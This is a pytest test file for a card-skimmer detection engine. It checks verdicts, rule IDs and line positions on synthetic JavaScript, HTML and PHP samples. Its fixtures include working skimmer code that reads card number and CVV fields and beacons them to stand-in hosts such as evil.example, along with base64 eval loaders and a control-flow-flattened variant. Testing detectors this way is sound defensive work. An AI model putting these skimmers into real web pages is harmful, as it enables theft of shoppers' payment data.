"""The engine end to end: extraction -> normalization -> rules + structure + intel -> verdict.

Fixtures are written here (synthetic); exact verdicts, rule IDs and file positions.
"""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Iterable
from typing import Any

import pytest

from skimguard.analyze import engine, structure, triage, yara_rules
from skimguard.analyze.engine import MALICIOUS_AT, Options, analyze_bytes, catalog, judge
from skimguard.analyze.model import CodeHit, Language, Layer, Segment, Verdict
from skimguard.intel import IntelIndex, parse_feed
from skimguard.models import Confidence, Severity

SKIMMER = (
    'document.addEventListener("blur", function () {\n'
    '  if (location.href.indexOf("checkout") > -1) {\n'
    '    var d = btoa(document.getElementById("cc_number").value + "|" + document.getElementById("cvv").value);\n'
    '    new Image().src = "https://evil.example/gate.php?d=" + d;\n'
    "  }\n"
    "}, true);\n"
)
PLAIN = "function add(a, b) { return a + b; }\nconsole.log(add(1, 2));\n"


def rule_ids(data: bytes, path: str, options: Options | None = None) -> list[str]:
    return sorted(h.rule_id for h in analyze_bytes(data, path, options).hits)


def test_a_checkout_gated_card_skimmer_is_malicious_and_explained() -> None:
    v = analyze_bytes(SKIMMER.encode(), "assist.js")
    assert (v.verdict, v.language) == (Verdict.MALICIOUS, Language.JS)
    assert v.sha256 == hashlib.sha256(SKIMMER.encode()).hexdigest() and v.size == len(SKIMMER)
    assert "SG440" in {h.rule_id for h in v.hits}
    sg440 = next(h for h in v.hits if h.rule_id == "SG440")
    assert sg440.severity is Severity.CRITICAL and sg440.layer is Layer.STRUCTURE
    assert sg440.explanation and sg440.line >= 1
    assert {"reads-card-field", "network-sink", "checkout-gate"} <= set(v.traits)
    assert v.score >= MALICIOUS_AT


def test_plain_code_is_clean_with_no_hits() -> None:
    v = analyze_bytes(PLAIN.encode(), "math.js")
    assert (v.verdict, v.score, v.hits, v.problems) == (Verdict.CLEAN, 0, (), ())


def test_a_skimmer_inside_html_is_placed_at_its_line_in_the_page() -> None:
    page = "<!doctype html>\n<html><head><title>Checkout</title></head>\n<body>\n<script>\n" + SKIMMER + "</script>\n"
    v = analyze_bytes(page.encode(), "checkout.html")
    assert v.verdict is Verdict.MALICIOUS and v.language is Language.HTML
    sg440 = next(h for h in v.hits if h.rule_id == "SG440")
    # "<script>" is on line 4, so the skimmer's first line is line 5 and its sink (line 4) is line 8.
    assert (sg440.line, sg440.normalized) == (8, False)
    assert sg440.excerpt.startswith("new Image().src")


def test_obfuscation_is_undone_before_the_rules_and_marked_decoded() -> None:
    hidden = "eval(atob('" + __import__("base64").b64encode(SKIMMER.encode()).decode() + "'));"
    v = analyze_bytes(hidden.encode(), "loader.js")
    assert v.verdict is Verdict.MALICIOUS
    assert any(t.startswith("decoded:") for t in v.traits)
    assert next(h for h in v.hits if h.rule_id == "SG440").normalized is True


def test_known_good_hash_short_circuits() -> None:
    digest = hashlib.sha256(SKIMMER.encode()).hexdigest()
    v = analyze_bytes(SKIMMER.encode(), "assist.js", Options(known_good={digest}))
    assert (v.verdict, v.hits, v.problems) == (Verdict.CLEAN, (), ("known good (by hash)",))


def test_intel_adds_sg450_only_when_a_feed_is_loaded() -> None:
    code = b'var u = "https://static.magecart-cdn.example/i.gif";'
    feed = IntelIndex.build(parse_feed("magecart-cdn.example\n", "feed").indicators)
    assert "SG450" not in rule_ids(code, "x.js")
    hits = analyze_bytes(code, "x.js", Options(intel=feed)).hits
    sg450 = next(h for h in hits if h.rule_id == "SG450")
    assert (sg450.severity, sg450.line, sg450.column) == (Severity.HIGH, 1, 10)
    assert "magecart-cdn.example" in sg450.explanation


def test_bad_input_is_a_partial_result_not_a_crash() -> None:
    latin1 = b"var s = '\xe9\xe8';\n" + PLAIN.encode()
    v = analyze_bytes(latin1, "x.js")
    assert v.verdict is Verdict.CLEAN and v.problems == ("not UTF-8: read as Latin-1",)
    huge = b"var a=1;\n" * (300 * 1024)  # 2.9 MB
    v = analyze_bytes(huge, "big.js")
    assert v.problems == ("too large: the first 2 MiB analysed",) and v.size == len(huge)


def test_judge_weighs_severity_and_confidence() -> None:
    def hit(rule: str, severity: Severity, confidence: Confidence = Confidence.MEDIUM) -> CodeHit:
        return CodeHit(rule, Layer.RULE, severity, confidence, "t", "e")

    assert judge([]) == (0, Verdict.CLEAN)
    assert judge([hit("SG401", Severity.LOW), hit("SG404", Severity.LOW)]) == (2, Verdict.CLEAN)
    assert judge([hit("SG405", Severity.MEDIUM), hit("SG404", Severity.LOW)]) == (4, Verdict.SUSPICIOUS)
    assert judge([hit("SG421", Severity.HIGH, Confidence.LOW)]) == (3, Verdict.SUSPICIOUS)
    assert judge([hit("SG421", Severity.HIGH), hit("SG405", Severity.MEDIUM), hit("SG404", Severity.LOW)]) == (
        10,
        Verdict.MALICIOUS,
    )
    assert judge([hit("SG442", Severity.HIGH)]) == (6, Verdict.MALICIOUS)  # a fake payment form convicts
    assert judge([hit("SG440", Severity.HIGH)]) == (6, Verdict.SUSPICIOUS)  # only critical SG440 convicts


def test_the_catalog_documents_every_rule_once() -> None:
    ids = [r.rule_id for r in catalog()]
    assert ids == sorted(set(ids)) and "SG450" in ids
    assert all(i.startswith("SG4") for i in ids)
    assert all(r.title and r.description for r in catalog())


# --- triage: deep layers only where they can pay ---------------------------------------------

CARD_BEACON = (
    "function send(){ var n = document.querySelector('[name=cardnumber]').value; "
    "navigator.sendBeacon('https://collect.evil.test/c', n); }\nsend();\n"
)
PADDING = "".join(f"var pad{i} = {i};\n" for i in range(1200))  # 20 KiB of plain code


def test_a_large_script_is_parsed_only_with_evidence() -> None:
    small = analyze_bytes(CARD_BEACON.encode(), "a.js")
    assert [(h.rule_id, h.severity) for h in small.hits] == [("SG445", Severity.LOW), ("SG407", Severity.INFO)]
    large = analyze_bytes((PADDING + CARD_BEACON).encode(), "a.js")
    assert [h.rule_id for h in large.hits] == ["SG407"]
    assert large.problems == (
        "structure layer skipped on 1 segment(s) larger than 16 KiB without evidence (no rule hit of medium or "
        "higher severity, no decoded card, checkout or login words; largest 21 KiB)",
    )
    # a medium rule (SG405 and more) is evidence: the structure layer runs and convicts
    evident = analyze_bytes((PADDING + SKIMMER).encode(), "a.js")
    assert (evident.verdict, evident.problems) == (Verdict.MALICIOUS, ())
    assert next(h for h in evident.hits if h.rule_id == "SG440").line == 1200 + 4


def test_deobfuscation_that_reveals_card_words_is_evidence() -> None:
    escaped = "".join(f"\\x{ord(c):02x}" for c in "[name=cardnumber]")
    hidden = CARD_BEACON.replace("'[name=cardnumber]'", f"'{escaped}'")
    v = analyze_bytes((PADDING + hidden).encode(), "a.js")
    assert "decoded:hex-escape" in v.traits and v.problems == ()
    assert {h.rule_id for h in v.hits} >= {"SG445"}


def test_plain_code_is_not_normalized_but_hidden_code_is() -> None:
    plain = analyze_bytes(b"var a = 'x' + y; var s = '\\u00a0';", "a.js")
    assert plain.traits == () and plain.hits == ()
    split = analyze_bytes(b"var u = 'chec' + 'kout'; if (location.href.indexOf(u) > -1) { go(); }", "a.js")
    assert "decoded:concat" in split.traits


def test_the_deep_layers_stop_at_the_file_budget(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(engine, "DEEP_BUDGET_SECONDS", -1.0)
    hidden = "eval(atob('" + __import__("base64").b64encode(SKIMMER.encode()).decode() + "'));"
    v = analyze_bytes(hidden.encode(), "loader.js")
    assert v.problems == (
        "deep analysis time budget (-1 s) spent: normalization cut short 0 time(s), normalization or structure "
        "skipped 1 time(s)",
    )
    assert v.traits == () and [h.rule_id for h in v.hits] == ["SG428"]  # the rules still ran


def test_intel_keeps_the_first_indicator_as_written_and_falls_back_to_decoded_text() -> None:
    feed = Options(intel=IntelIndex.build(parse_feed("evil-cdn.test\n", "feed").indicators))
    url = "https://static.evil-cdn.test/s.js"
    hidden = "var u = atob('" + __import__("base64").b64encode(url.encode()).decode() + "');\n"
    decoded_only = next(h for h in analyze_bytes(hidden.encode(), "x.js", feed).hits if h.rule_id == "SG450")
    assert (decoded_only.normalized, decoded_only.line, decoded_only.column) == (True, 1, 1)
    both = hidden + f"var v = '{url}';\n"
    plain = next(h for h in analyze_bytes(both.encode(), "x.js", feed).hits if h.rule_id == "SG450")
    assert (plain.normalized, plain.line, plain.column, plain.excerpt) == (False, 2, 10, url)
    page = f"<html>\n<body>\n<script>\nload('{url}');\n</script>\n</body>\n</html>\n"
    in_page = next(h for h in analyze_bytes(page.encode(), "p.html", feed).hits if h.rule_id == "SG450")
    assert (in_page.normalized, in_page.line, in_page.column) == (False, 4, 7)


# --- issue 4: gaps closed, and the speed-ups keep results ---------------------------------------

FLATTENED = (
    'document.addEventListener("blur", function () {\n'
    "  var o = '2|0|1'.split('|'), i = 0;\n"
    "  while (!![]) {\n"
    "    switch (o[i++]) {\n"
    '      case "0": var d = btoa(document.getElementById("cc_number").value + "|"'
    ' + document.getElementById("cvv").value); continue;\n'
    '      case "1": new Image().src = "https://evil.example/gate.php?d=" + d; continue;\n'
    '      case "2": if (location.href.indexOf("checkout") < 0) { return; } continue;\n'
    "    }\n"
    "    break;\n"
    "  }\n"
    "}, true);\n"
)


def test_a_loader_through_this_brackets_is_decoded_and_convicted() -> None:
    hidden = "this['eval'](this['atob']('" + base64.b64encode(SKIMMER.encode()).decode() + "'));"
    v = analyze_bytes(hidden.encode(), "loader.js")
    assert v.verdict is Verdict.MALICIOUS
    assert {"decoded:atob", "decoded:bracket-member", "decoded:eval-literal"} <= set(v.traits)
    sg440 = next(h for h in v.hits if h.rule_id == "SG440")
    assert (sg440.severity, sg440.normalized) == (Severity.CRITICAL, True)


def test_a_flattened_skimmer_is_reordered_and_convicted() -> None:
    v = analyze_bytes(FLATTENED.encode(), "assist.js")
    assert v.verdict is Verdict.MALICIOUS and "decoded:control-flow" in v.traits
    assert [(h.rule_id, h.severity) for h in v.hits if h.layer is Layer.STRUCTURE] == [("SG440", Severity.CRITICAL)]


def test_flattened_code_is_no_blind_spot_for_the_structure_layer() -> None:
    # even as written, in case order, the statements are in one function: the combination is seen
    assert [(h.rule_id, h.severity) for h in structure.structure_hits(FLATTENED)] == [("SG440", Severity.CRITICAL)]


def test_javascript_without_extension_naming_a_script_tag_is_analysed_as_javascript() -> None:
    code = "var tag = '<script src=\"https://cdn.example/x.js\"></script>';\n" + SKIMMER
    v = analyze_bytes(code.encode(), "cache/7f3a9c")
    assert (v.language, v.verdict) == (Language.JS, Verdict.MALICIOUS)
    assert next(h for h in v.hits if h.rule_id == "SG440").line == 5  # the skimmer's sink, in the file


def test_identical_segments_are_analysed_once(monkeypatch: pytest.MonkeyPatch) -> None:
    handler = "<button onclick=\"navigator.sendBeacon('https://collect.evil.test/c', document.cookie)\">Pay</button>\n"
    seen: list[str] = []
    real = engine._segment_hits

    def counting(segment: Segment, *args: Any) -> Iterable[CodeHit]:
        seen.append(segment.origin)
        return real(segment, *args)

    monkeypatch.setattr(engine, "_segment_hits", counting)
    once = analyze_bytes(("<p>\n" + handler).encode(), "a.html")
    seen.clear()
    thrice = analyze_bytes(("<p>\n" + handler * 3).encode(), "b.html")
    assert seen == ["file", "handler:onclick"]  # the second and third button add nothing
    assert [(h.rule_id, h.line, h.column) for h in thrice.hits] == [(h.rule_id, h.line, h.column) for h in once.hits]
    assert once.hits and thrice.verdict is once.verdict


def test_rule_hits_of_small_segments_are_remembered_across_files() -> None:
    small = "new Image().src = 'https://x.test/?c=' + document.cookie; // remembered"
    expected = yara_rules.scan_rules(small, language=Language.JS)
    assert expected  # the handler has hits
    engine._small_segment_rules.cache_clear()
    assert engine._rules(small, Language.JS, []) == expected  # scanned
    assert engine._rules(small, Language.JS, []) == expected  # remembered
    assert engine._small_segment_rules.cache_info()[:2] == (1, 1)  # one hit, one miss
    large = small + " " * engine.SMALL_SEGMENT_CHARS
    assert engine._rules(large, Language.JS, []) == yara_rules.scan_rules(large, language=Language.JS)
    assert engine._small_segment_rules.cache_info()[:2] == (1, 1)  # a large text is scanned each time


def test_intel_scans_a_php_file_once_for_all_its_blocks(monkeypatch: pytest.MonkeyPatch) -> None:
    index = IntelIndex.build(parse_feed("evil-cdn.test\n", "feed").indicators)
    calls: list[int] = []
    real = triage.intel_prefilter(index)

    def counting(text: str) -> bool:
        calls.append(len(text))
        return real(text)

    monkeypatch.setattr(triage, "intel_prefilter", lambda intel: counting)
    blocks = "".join(f"<?php $a{i} = {i}; ?>\n" for i in range(5))
    clean = analyze_bytes(blocks.encode(), "x.php", Options(intel=index))
    assert (clean.verdict, len(calls)) == (Verdict.CLEAN, 1)  # one scan of the file, not five of blocks
    calls.clear()
    listed = blocks + "<?php $u = 'https://static.evil-cdn.test/k.js'; ?>\n"
    hit = next(h for h in analyze_bytes(listed.encode(), "x.php", Options(intel=index)).hits if h.rule_id == "SG450")
    assert (hit.line, hit.column, hit.normalized) == (6, 13, False)  # where the URL starts


def test_a_php_files_markup_needs_no_scan_of_its_own_when_no_needle_holds_a_blank(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    index = IntelIndex.build(parse_feed("evil-cdn.test\n", "feed").indicators)
    scanned: list[str] = []
    real = triage.IntelPrefilter.__call__

    def counting(self: triage.IntelPrefilter, text: str) -> bool:
        scanned.append(text[:12])
        return real(self, text)

    monkeypatch.setattr(triage.IntelPrefilter, "__call__", counting)
    assert triage.intel_prefilter(index).spaceless
    page = "<html><body>\n<?php echo $a; ?>\n<script>go('/x');</script>\n<?php $b = 1; ?>\n</body></html>\n"
    v = analyze_bytes(page.encode(), "page.php", Options(intel=index))
    assert (v.verdict, scanned) == (Verdict.CLEAN, ["<html><body>"])  # the file, once
    scanned.clear()
    listed = page.replace("go('/x')", "go('https://evil-cdn.test/x')")
    hit = next(h for h in analyze_bytes(listed.encode(), "page.php", Options(intel=index)).hits if h.rule_id == "SG450")
    assert (hit.line, hit.column) == (3, 13)


def test_intel_asks_the_prefilter_once_for_all_echoed_literals(monkeypatch: pytest.MonkeyPatch) -> None:
    index = IntelIndex.build(parse_feed("evil-cdn.test\n", "feed").indicators)
    scanned: list[str] = []
    real = triage.IntelPrefilter.__call__

    def counting(self: triage.IntelPrefilter, text: str) -> bool:
        scanned.append(text)
        return real(self, text)

    monkeypatch.setattr(triage.IntelPrefilter, "__call__", counting)
    echoes = "".join(f'<?php echo \'<input name="f{i}" onclick="go({i})">\'; ?>\n' for i in range(4))
    clean = analyze_bytes(echoes.encode(), "form.php", Options(intel=index))
    assert clean.verdict is Verdict.CLEAN and len(scanned) == 2  # the file, then all echoed literals at once
    scanned.clear()
    listed = echoes.replace("go(2)", "go(&quot;https://evil-cdn.test/x&quot;)")  # only in the unescaped handler
    hit = next(h for h in analyze_bytes(listed.encode(), "form.php", Options(intel=index)).hits if h.rule_id == "SG450")
    assert hit.normalized is False and "evil-cdn.test" in hit.excerpt


def test_intel_looks_at_the_new_lines_of_normalized_text_when_the_written_text_is_clear(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    index = IntelIndex.build(parse_feed("evil-cdn.test\n", "feed").indicators)
    scanned: list[str] = []
    real = triage.IntelPrefilter.__call__

    def counting(self: triage.IntelPrefilter, text: str) -> bool:
        scanned.append(text)
        return real(self, text)

    monkeypatch.setattr(triage.IntelPrefilter, "__call__", counting)
    url = "https://static.evil-cdn.test/s.js"
    library = "".join(f"function f{i}(a) {{ return a + {i}; }}\n" for i in range(50))
    hidden = library + "var u = atob('" + __import__("base64").b64encode(url.encode()).decode() + "');\n"
    hit = next(h for h in analyze_bytes(hidden.encode(), "x.js", Options(intel=index)).hits if h.rule_id == "SG450")
    assert hit.normalized is True
    assert len(scanned) == 2 and "function f1(" not in scanned[1]  # the file, then the decoded line alone
    assert url in scanned[1]


@pytest.mark.parametrize(
    ("written", "normalized"),
    [
        ("load('//evil-cdn.tes');", "load('//evil-cdn.test');"),  # the needle ends in the change
        ("load('//vil-cdn.test');", "load('//evil-cdn.test');"),  # it starts in it
        ("f();\n" * 2000 + "u = x;\n" + "g();\n" * 2000, "f();\n" * 2000 + "u = 'evil-cdn.test';\n" + "g();\n" * 2000),
    ],
)
def test_what_a_normalized_text_shares_with_a_clear_written_one_is_not_scanned_again(
    written: str, normalized: str
) -> None:
    index = IntelIndex.build(parse_feed("evil-cdn.test\n", "feed").indicators)
    prefilter = triage.intel_prefilter(index)
    assert not prefilter(written) and prefilter(normalized)
    state = engine._IntelState(may_match=prefilter, text=written, spaceless=True, file_clear=True)
    new = state._new_text(Segment(language=Language.JS, text=written), normalized)
    assert prefilter(new) and len(new) < 100
    assert engine._common_prefix("abcd", "abxd") == 2 and engine._common_prefix("", "a") == 0
